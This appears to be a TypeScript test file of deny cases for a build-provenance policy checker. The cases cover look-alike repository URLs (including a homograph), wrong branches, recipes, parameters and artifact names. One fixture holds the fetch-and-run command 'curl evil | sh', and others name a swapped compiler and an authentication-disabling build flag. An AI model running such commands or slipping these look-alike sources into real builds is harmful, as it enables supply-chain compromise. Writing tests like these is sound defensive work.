import { deny, type Case } from '../case.ts'
import {
  builtRule,
  provenance,
  recipeType,
  repository,
  request,
  signed,
  type ProvenanceParts,
} from '../fixtures.ts'

function refused(
  name: string,
  says: string,
  parts: ProvenanceParts,
  codes: readonly string[],
): Case {
  return deny(
    `deny-built-${name}`,
    says,
    { require: [builtRule], items: [signed(provenance(parts))] },
    codes,
    {
      'require[0].built': 'FAIL',
    },
  )
}

function lookAlike(name: string, uri: string): Case {
  return refused(`look-alike-${name}`, `${uri} is not ${repository} (POL-06)`, { uri }, [
    'SOURCE_MISMATCH',
  ])
}

export const built: readonly Case[] = [
  lookAlike('suffix', `${repository}.git`),
  lookAlike('trailing-slash', `${repository}/`),
  lookAlike('trailing-path', `${repository}/evil`),
  lookAlike('case', 'git+https://git.example/Acme/shop'),
  lookAlike('embedded-host', 'git+https://git.example.evil.example/acme/shop'),
  lookAlike('user-info', 'git+https://git.example@evil.example/acme/shop'),
  lookAlike('host-in-path', 'git+https://evil.example/git.example/acme/shop'),
  lookAlike('scheme', 'git+http://git.example/acme/shop'),
  lookAlike('homograph', 'git+https://git.ex\u0430mple/acme/shop'),
  refused(
    'other-repository',
    'built from another repository',
    { uri: 'git+https://git.example/acme/other' },
    ['SOURCE_MISMATCH'],
  ),
  refused(
    'second-repository',
    'a second repository beside the right one, and nobody says which was built',
    {
      external: { source: {} },
      dependencies: [{ uri: 'git+https://evil.example/x', digest: { gitCommit: 'ab'.repeat(20) } }],
    },
    ['SOURCE_MISMATCH', 'ATTESTATION_FIELD_OMITTED'],
  ),
  refused('other-ref', 'built from another branch', { ref: 'refs/heads/feature' }, [
    'REF_MISMATCH',
  ]),
  refused(
    'ref-look-alike',
    'a branch whose name only begins like the right one',
    { ref: 'refs/heads/main-evil' },
    ['REF_MISMATCH'],
  ),
  refused('no-ref', 'a commit of which nobody says that it is on the branch', { ref: null }, [
    'REF_MISMATCH',
  ]),
  deny(
    'deny-built-ref-not-mentioned',
    'a ref is a parameter: a rule that does not mention it refuses it (POL-13)',
    {
      require: [
        `built: {by: [release-builder], from: ${repository}, parameters: {target: [release]}}`,
      ],
      items: [signed(provenance())],
    },
    ['PARAMETER_NOT_ALLOWED'],
  ),
  refused(
    'other-recipe',
    'another file of the same repository is another pipeline (POL-07)',
    {
      external: { recipe: { path: 'evil.build.json' } },
    },
    ['RECIPE_MISMATCH'],
  ),
  refused('no-recipe', 'provenance that names no recipe', { external: { recipe: {} } }, [
    'RECIPE_MISMATCH',
  ]),
  refused(
    'recipe-with-more',
    'an unknown member of the recipe is a parameter too',
    {
      external: { recipe: { path: 'sallyport.build.json', inline: 'curl evil | sh' } },
    },
    ['PARAMETER_NOT_ALLOWED'],
  ),
  refused(
    'unknown-parameter',
    'a parameter that the rule does not mention (POL-13)',
    {
      parameters: { target: 'release', flags: '-DAUTH=0' },
    },
    ['PARAMETER_NOT_ALLOWED'],
  ),
  refused(
    'unknown-external',
    'an external parameter that the build type does not define',
    {
      external: { environment: { CC: 'evil-cc' } },
    },
    ['PARAMETER_NOT_ALLOWED'],
  ),
  refused(
    'parameter-value',
    'a parameter with another value',
    { parameters: { target: 'debug' } },
    ['PARAMETER_VALUE'],
  ),
  refused(
    'parameter-type',
    'true is not "release", and neither is a list of it',
    { parameters: { target: ['release'] } },
    ['PARAMETER_VALUE'],
  ),
  refused(
    'parameter-unset',
    'a parameter that is not set has a value that somebody else chose',
    { parameters: {} },
    ['PARAMETER_VALUE'],
  ),
  refused(
    'build-type',
    'a build type whose parameters nobody understands',
    { buildType: 'https://evil.example/v1' },
    ['BUILD_TYPE_MISMATCH', 'PARAMETER_NOT_ALLOWED'],
  ),
  refused(
    'input-without-digest',
    'an input of which nobody knows what it was (PRV-06)',
    {
      dependencies: [{ uri: 'pkg:npm/left-pad@1.0.0' }],
    },
    ['ATTESTATION_INPUT_UNIDENTIFIED'],
  ),
  deny(
    'deny-built-level',
    'the trust file says how far a builder is trusted, not the provenance',
    {
      require: [
        `built: {by: [release-builder, hosted-builder], level: 3, from: ${repository}, refs: [refs/heads/main], parameters: {target: [release]}}`,
      ],
      items: [signed(provenance())],
    },
    ['BUILDER_LEVEL'],
  ),
  deny(
    'deny-built-build-type-named',
    'a rule that names a build type wants that one',
    {
      require: [
        `built: {by: [release-builder], from: ${repository}, refs: [refs/heads/main], buildType: 'https://other.example/v1', parameters: {target: [release]}}`,
      ],
      items: [signed(provenance({ buildType: recipeType }))],
    },
    ['BUILD_TYPE_MISMATCH'],
  ),
  deny(
    'deny-artifact-of-another-service',
    "service A's artifact under service B's name, built by the same key (POL-16)",
    {
      require: ['signed: {by: [release-builder]}'],
      policy: "artifacts: ['pkg:npm/shop']",
      items: [signed(provenance({ purl: 'pkg:npm/warehouse@1.2.3', name: 'warehouse.tgz' }))],
      request: { ...request, artifact: { ...request.artifact, name: 'pkg:npm/shop@1.2.3' } },
    },
    ['ARTIFACT_NOT_OF_TARGET'],
    { artifacts: 'FAIL', 'require[0].signed': 'PASS' },
  ),
  deny(
    'deny-artifact-under-another-name',
    'one artifact of the service under the name of another one',
    {
      require: ['signed: {by: [release-builder]}'],
      policy: "artifacts: ['pkg:npm/shop', 'pkg:npm/shop-admin']",
      items: [signed(provenance())],
      request: { ...request, artifact: { ...request.artifact, name: 'pkg:npm/shop-admin@1.2.3' } },
    },
    ['ARTIFACT_NOT_OF_TARGET'],
  ),
  deny(
    'deny-artifact-without-name',
    'provenance that does not name the artifact cannot bind it to a service',
    {
      require: ['signed: {by: [release-builder]}'],
      policy: "artifacts: ['pkg:npm/shop']",
      items: [signed(provenance({ purl: null, name: '' }))],
    },
    ['FACT_MISSING'],
    { artifacts: 'MISSING' },
  ),
]
